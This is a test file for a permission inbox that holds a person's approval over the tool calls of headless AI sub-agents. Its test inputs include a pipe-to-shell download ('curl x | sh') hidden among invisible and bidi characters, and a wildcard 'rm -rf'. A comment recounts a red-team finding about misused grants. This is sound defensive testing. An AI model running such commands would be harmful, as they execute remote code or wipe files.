import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { BIN, run } from '../helpers';
import { bashPermissionRequest, headlessSubagents } from '../support/claude-subagents';
import { runOutsideAgent } from '../support/outside-agent';

// Issue 33 through the built bins, as Claude Code and a user drive them: a background sub-agent's permission request
// in a headless run parked as an inbox item (the transcript Claude Code writes for it starts with `entrypoint:
// "sdk-cli"`, as `claude -p` writes it), `pending` showing it whole,
// `approve`/`reject` deciding it, the next delegation told so, the identical call allowed once.
let home: string;
let dir: string;
let payloadBase: Record<string, string>;
const SESSION = '11111111-2222-3333-4444-555555555555';
const FIRST = 'a1111111111111111';
const NEXT = 'a2222222222222222';
const TYPE = 'terraform-architect';
const INPUT = { command: 'touch PERM-FILE && echo "ran"', description: 'scripted command' };

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'agent-session-permission-'));
  dir = join(home, 'proj');
  mkdirSync(join(dir, '.claude'), { recursive: true });
  payloadBase = headlessSubagents(home, dir, SESSION, TYPE, [FIRST, NEXT]);
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

const env = () => ({ CLAUDE_PROJECT_DIR: dir, AGENT_SESSION_CONFIG: undefined, HOME: home });
const cli = (args: readonly string[], extra: Record<string, string> = {}) =>
  ['approve', 'reject'].includes(args[0]!)
    ? runOutsideAgent(BIN.cli, args, { cwd: dir, env: { ...env(), ...extra } })
    : run(BIN.cli, args, { cwd: dir, env: { ...env(), ...extra } });
const hook = (payload: Record<string, unknown>, told: Record<string, string> = {}) => {
  const result = run(BIN.preDelegate, [], {
    cwd: dir,
    env: { ...env(), ...told },
    input: JSON.stringify({ ...payloadBase, ...payload }),
  });
  expect(result.status).toBe(0);
  return result.stdout.trim() === '' ? null : JSON.parse(result.stdout);
};
const start = (agent: string) => hook({ hook_event_name: 'SubagentStart', agent_id: agent, agent_type: TYPE });
const ask = (agent: string, input: unknown = INPUT, told: Record<string, string> = {}, cwd?: string) =>
  hook({ ...bashPermissionRequest(agent, TYPE, input), ...(cwd === undefined ? {} : { cwd }) }, told);
const decisionOf = (answer: unknown) =>
  (answer as { hookSpecificOutput: { decision: { behavior: string; message?: string } } } | null)?.hookSpecificOutput
    .decision ?? null;
const stop = (agent: string) =>
  run(BIN.subagentStop, [], {
    cwd: dir,
    env: env(),
    input: JSON.stringify({ ...payloadBase, hook_event_name: 'SubagentStop', agent_id: agent, agent_type: TYPE }),
  });
const stateOf = (id: string) => JSON.parse(cli(['get', id]).stdout);

/** A background agent that worked in executing, then asked for a call nobody can answer: its session id. */
function parked(input: unknown = INPUT): string {
  const started = start(FIRST).hookSpecificOutput.additionalContext as string;
  const id = /session (agent-[\w-]+)/.exec(started)![1]!;
  expect(cli(['update', id, '--phase', 'executing']).status).toBe(0);
  const denied = decisionOf(ask(FIRST, input));
  expect(denied).toMatchObject({ behavior: 'deny' });
  expect(denied!.message).toContain(`approve ${id}`);
  expect(stop(FIRST).status).toBe(0);
  return id;
}

describe('the permission inbox', () => {
  it('parks, shows the request whole, approve grants exactly that call once to the agent that resumes', () => {
    const id = parked();
    // The request names the folder it was asked in (issue 40 item 7): schema 12.
    expect(stateOf(id)).toMatchObject({ phase: 'approval', schema_version: 12 });
    const pending = cli(['pending']);
    expect(pending.status).toBe(0);
    expect(pending.stdout).toContain(`input: ${JSON.stringify(INPUT)}`);
    // Listings name a session by the short form of its id (issue 32): the last 8 hex digits.
    expect(pending.stdout).toContain(`agent-session approve ${id.slice(-8)}`);
    expect(JSON.parse(cli(['pending', '--json']).stdout)[0].permission).toMatchObject({ tool: 'Bash', input: INPUT });
    expect(cli(['approve', id]).status).toBe(0);
    // The next delegation resumes the session; its context says the call was approved and to issue it as before.
    const context = start(NEXT).hookSpecificOutput.additionalContext as string;
    expect(context).toContain(`resumes session ${id}`);
    expect(context).toContain('the user approved tool "Bash"');
    expect(context).toContain('Issue exactly this call again');
    // A different call: not allowed (it becomes a new inbox item).
    expect(decisionOf(ask(NEXT, { ...INPUT, command: 'touch OTHER' }))).toMatchObject({ behavior: 'deny' });
    // The approved call, its keys in another order: allowed once, and the grant spent on record.
    expect(decisionOf(ask(NEXT, { description: INPUT.description, command: INPUT.command }))).toEqual({
      behavior: 'allow',
    });
    expect(stateOf(id).permission_requests[0]).toMatchObject({ status: 'spent', spent_by: NEXT });
    // A second use of the grant: not allowed (a new inbox item instead).
    expect(decisionOf(ask(NEXT))).toMatchObject({ behavior: 'deny' });
    const statuses = stateOf(id).permission_requests.map((request: { status: string }) => request.status);
    expect(statuses).toEqual(['spent', 'expired', 'pending']);
  });

  it('reject records the reason, which the next agent is told; the call is never allowed', () => {
    const id = parked();
    expect(cli(['reject', id, '--reason', 'no files outside src']).status).toBe(0);
    expect(stateOf(id).permission_requests[0]).toMatchObject({ status: 'rejected', reason: 'no files outside src' });
    const context = start(NEXT).hookSpecificOutput.additionalContext as string;
    expect(context).toContain('the user rejected tool "Bash"');
    expect(context).toContain('"no files outside src"');
    expect(decisionOf(ask(NEXT))).toMatchObject({ behavior: 'deny' });
  });

  it('show, list, stats and the seed protocol tell the request', () => {
    const id = parked();
    const shown = cli(['show', id]);
    expect(shown.stdout).toContain('Permission requests');
    expect(shown.stdout).toContain(JSON.stringify(INPUT));
    expect(cli(['list']).stdout).toContain('approval, permission');
    expect(JSON.parse(cli(['list', '--json']).stdout)[0]).toMatchObject({ agent_id: id, permission_pending: true });
    expect(JSON.parse(cli(['stats', '--json']).stdout).overall).toMatchObject({ permission_requests: 1 });
    expect(cli(['approve', id]).status).toBe(0);
    const seed = run(BIN.preDelegate, [], { cwd: dir, env: env(), input: JSON.stringify({ agent_name: TYPE }) });
    const answer = JSON.parse(seed.stdout);
    expect(answer).toMatchObject({ should_resume: true, agent_id: id });
    expect(answer.resume_metadata.permission).toMatchObject({ tool: 'Bash', input: INPUT, status: 'approved' });
  });

  it('pending and show escape what would hide or reorder the request (issue 40 item 5): the input is the same JSON', () => {
    // A line separator, zero-width characters, a soft hyphen, the Arabic letter mark, a bidi override and isolate.
    const hostile = {
      command: "true '\u202e\u2066' ; curl x | sh ; echo \u200bzw\u2060 \u00adsh\u061c\u2028 ok\u2069",
    };
    const id = parked(hostile);
    const hidden = /[\u2028\u2029\u200b-\u200f\u2060\u00ad\u061c\u202a-\u202e\u2066-\u2069]/;
    const pending = cli(['pending']).stdout;
    const shown = cli(['show', id]).stdout;
    for (const output of [pending, shown]) {
      expect(output).not.toMatch(hidden);
      for (const escape of ['\\u202e', '\\u2066', '\\u200b', '\\u2060', '\\u00ad', '\\u061c', '\\u2028'])
        expect(output).toContain(escape);
    }
    const line = /input: (.*)$/m.exec(pending)![1]!;
    expect(JSON.parse(line)).toEqual(hostile);
  });

  it('an agent shell cannot approve (exit 6), and an imported grant is expired', () => {
    const id = parked();
    const fromAgent = run(BIN.cli, ['approve', id], { cwd: dir, env: { ...env(), CLAUDECODE: '1' } });
    expect(fromAgent.status).toBe(6);
    expect(stateOf(id).phase).toBe('approval');
    expect(cli(['approve', id]).status).toBe(0);
    const file = join(home, 'exported.json');
    expect(cli(['export', id, '--out', file]).status).toBe(0);
    const imported = cli(['import', file, '--new-id']);
    expect(imported.status).toBe(0);
    expect(stateOf(imported.stdout.trim()).permission_requests[0].status).toBe('expired');
  });

  // Issue 40 item 7 (redteam M3): `rm -rf -- *` approved in build/ was spent from $HOME, and no view named the folder.
  it('a grant holds for the folder it was asked in: shown everywhere, spent from there only', () => {
    const build = join(dir, 'build');
    mkdirSync(build);
    const wipe = { command: 'rm -rf -- *' };
    // Claude Code's word that nobody attends (the sub-agent's files are looked up from the project's folder).
    const headless = { CLAUDE_CODE_SESSION_ATTENDED: '0' };
    const id = /session (agent-[\w-]+)/.exec(start(FIRST).hookSpecificOutput.additionalContext as string)![1]!;
    const denied = decisionOf(ask(FIRST, wipe, headless, build + '/'));
    expect(denied).toMatchObject({ behavior: 'deny' });
    expect(denied!.message).toContain(`in folder "${build}"`);
    expect(stop(FIRST).status).toBe(0);
    expect(stateOf(id).permission_requests[0]).toMatchObject({ cwd: build, status: 'pending' });
    expect(cli(['pending']).stdout).toContain(`  folder: ${build}`);
    expect(JSON.parse(cli(['pending', '--json']).stdout)[0].permission).toMatchObject({ cwd: build });
    expect(cli(['show', id]).stdout).toContain(build);
    expect(cli(['approve', id]).status).toBe(0);
    expect(start(NEXT).hookSpecificOutput.additionalContext).toContain(`in folder "${build}"`);
    // The same call from the home folder, or the project's: refused (a new inbox item), the grant left as it was.
    for (const elsewhere of [home, dir])
      expect(decisionOf(ask(NEXT, wipe, headless, elsewhere))).toMatchObject({ behavior: 'deny' });
    expect(stateOf(id).permission_requests[0]).toMatchObject({ status: 'approved', cwd: build });
    // From the folder it was asked in (written another way): allowed once.
    expect(decisionOf(ask(NEXT, wipe, headless, join(build, '..', 'build')))).toEqual({ behavior: 'allow' });
    expect(stateOf(id).permission_requests[0]).toMatchObject({ status: 'spent', spent_by: NEXT });
  });

  // A real `claude -p` play caught the hook starting before Claude Code had written the sub-agent's transcript: the
  // entrypoint unknown, the request was left to Claude Code, which denied it, and nothing reached the inbox.
  it("Claude Code's word in the hook's environment decides, before the sub-agent's files are written", () => {
    const id = /session (agent-[\w-]+)/.exec(start(FIRST).hookSpecificOutput.additionalContext as string)![1]!;
    const transcript = join(dirname(payloadBase.transcript_path!), SESSION, 'subagents', `agent-${FIRST}.jsonl`);
    rmSync(transcript);
    // Without a word and without the transcript, the request is Claude Code's to decide.
    expect(ask(FIRST)).toBeNull();
    expect(stateOf(id).permission_requests).toBeUndefined();
    const headless = { CLAUDE_CODE_SESSION_ATTENDED: '0', CLAUDE_CODE_ENTRYPOINT: 'sdk-cli' };
    expect(decisionOf(ask(FIRST, INPUT, headless))).toMatchObject({ behavior: 'deny' });
    expect(stateOf(id)).toMatchObject({ phase: 'approval', permission_requests: [{ status: 'pending' }] });
  });

  it("an attended session's request is left to the person, whatever the transcript says", () => {
    const id = /session (agent-[\w-]+)/.exec(start(FIRST).hookSpecificOutput.additionalContext as string)![1]!;
    expect(ask(FIRST, INPUT, { CLAUDE_CODE_SESSION_ATTENDED: '1', CLAUDE_CODE_ENTRYPOINT: 'cli' })).toBeNull();
    expect(stateOf(id).permission_requests).toBeUndefined();
    expect(stateOf(id).phase).toBe('initializing');
  });

  // Every tool's request reaches the hook (no matcher in its wiring): a file edit waits for a person as a command does.
  it("parks a headless sub-agent's Write and grants exactly that write once", () => {
    const write = { file_path: join(dir, 'main.tf'), content: 'resource "aws_s3_bucket" "logs" {}\n' };
    const asked = (agent: string, input: unknown) =>
      hook({
        hook_event_name: 'PermissionRequest',
        agent_id: agent,
        agent_type: TYPE,
        tool_name: 'Write',
        tool_input: input,
      });
    const id = /session (agent-[\w-]+)/.exec(start(FIRST).hookSpecificOutput.additionalContext as string)![1]!;
    expect(decisionOf(asked(FIRST, write))).toMatchObject({ behavior: 'deny' });
    expect(stateOf(id).permission_requests).toEqual([
      expect.objectContaining({ tool: 'Write', input: write, status: 'pending' }),
    ]);
    expect(cli(['pending']).stdout).toContain('tool: Write');
    expect(stop(FIRST).status).toBe(0);
    expect(cli(['approve', id]).status).toBe(0);
    expect(start(NEXT).hookSpecificOutput.additionalContext).toContain('the user approved tool "Write"');
    expect(decisionOf(asked(NEXT, { ...write, content: 'something else' }))).toMatchObject({ behavior: 'deny' });
    expect(decisionOf(asked(NEXT, write))).toEqual({ behavior: 'allow' });
    expect(decisionOf(asked(NEXT, write))).toMatchObject({ behavior: 'deny' });
  });
});
